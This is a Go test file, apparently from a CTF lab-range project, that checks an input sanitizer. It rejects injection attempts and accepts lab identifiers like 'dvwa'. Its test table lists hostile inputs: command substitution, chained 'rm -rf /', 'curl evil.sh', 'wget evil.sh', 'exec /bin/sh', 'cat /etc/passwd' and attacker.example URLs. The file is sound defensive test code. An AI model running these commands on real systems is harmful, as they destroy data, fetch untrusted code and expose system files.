package admission

import (
	"errors"
	"testing"

	"github.com/stretchr/testify/assert"

	"github.com/bagleyctf/labrange/pkg/types"
)

// TestSanitizeRejectsInjectionAttempts tests the deny-list against known
// injection shapes
func TestSanitizeRejectsInjectionAttempts(t *testing.T) {
	tests := []struct {
		name  string
		input string
	}{
		{"command substitution", "$(whoami)"},
		{"backtick execution", "`id`"},
		{"command chaining and", "dvwa && rm -rf /"},
		{"command chaining or", "dvwa || true"},
		{"destructive after semicolon", "dvwa; rm -rf /data"},
		{"curl fetch", "curl evil.sh"},
		{"wget fetch", "wget evil.sh"},
		{"eval", "eval(1)"},
		{"exec", "exec /bin/sh"},
		{"os module import", "import os"},
		{"http url", "http://attacker.example"},
		{"https url", "https://attacker.example"},
		{"sudo", "sudo su"},
		{"passwd read", "cat /etc/passwd"},
		{"case insensitive", "SUDO su"},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := Sanitize(tt.input)
			assert.Error(t, err)
			assert.True(t, errors.Is(err, types.ErrValidation))
		})
	}
}

// TestSanitizeAcceptsLabIdentifiers tests that ordinary catalog ids pass
// through trimmed
func TestSanitizeAcceptsLabIdentifiers(t *testing.T) {
	tests := []struct {
		input    string
		expected string
	}{
		{"dvwa", "dvwa"},
		{"  dvwa  ", "dvwa"},
		{"juice-shop", "juice-shop"},
		{"crypto-lab", "crypto-lab"},
	}

	for _, tt := range tests {
		cleaned, err := Sanitize(tt.input)
		assert.NoError(t, err)
		assert.Equal(t, tt.expected, cleaned)
	}
}

func TestSanitizeRejectsEmptyInput(t *testing.T) {
	_, err := Sanitize("   ")
	assert.Error(t, err)
	assert.True(t, errors.Is(err, types.ErrValidation))
}

// TestSanitizeDoesNotLeakPattern tests that rejection messages never
// name the matched rule
func TestSanitizeDoesNotLeakPattern(t *testing.T) {
	_, err := Sanitize("$(whoami)")
	assert.Error(t, err)
	assert.NotContains(t, err.Error(), "command-substitution")
	assert.NotContains(t, err.Error(), "$(")
}
